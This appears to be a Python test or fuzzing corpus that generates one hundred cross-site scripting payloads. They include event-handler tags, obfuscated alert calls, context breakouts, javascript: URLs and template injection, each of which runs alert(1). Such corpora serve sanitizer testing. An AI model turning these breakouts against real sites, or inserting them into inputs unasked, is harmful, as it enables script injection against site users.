"""A hundred texts that run `alert(1)` where somebody takes text for markup, a script or a URL."""

from __future__ import annotations

_EVENTS = (
    "<img src=x onerror={0}>",
    '<img src="data:," onerror="{0}">',
    "<svg onload={0}>",
    "<svg/onload={0}>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<svg><set onbegin={0} attributeName=x to=y>",
    "<video><source onerror={0}>",
    "<video src=x onerror={0}></video>",
    "<audio src=x onerror={0}></audio>",
    "<details open ontoggle={0}>x</details>",
    "<input autofocus onfocus={0}>",
    "<select autofocus onfocus={0}></select>",
    "<textarea autofocus onfocus={0}></textarea>",
    "<button autofocus onfocus={0}>x</button>",
    "<a href=# autofocus onfocus={0} tabindex=1>x</a>",
    "<iframe onload={0}></iframe>",
    '<iframe srcdoc="<script>parent.{0}</script>"></iframe>',
    "<object data=x onerror={0}></object>",
    "<link rel=stylesheet href=x onerror={0}>",
    "<style>@keyframes k{{}}p{{animation:k 1s}}</style><p onanimationstart={0}>x</p>",
)
_CALLS = ("alert(1)", "alert`1`", "self['ale'+'rt'](1)", "top.alert?.(1)")
_OTHERS = (
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "</title><img src=x onerror=alert(1)>",
    "</textarea><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)>",
    "<<img src=x onerror=alert(1)>",
    "<ScRiPt>alert(1)</ScRiPt>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "${alert(1)}",
    '{{constructor.constructor("alert(1)")()}}',
    "{name}<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
)
PAYLOADS = [event.format(call) for event in _EVENTS for call in _CALLS][:80] + list(_OTHERS)[:20]
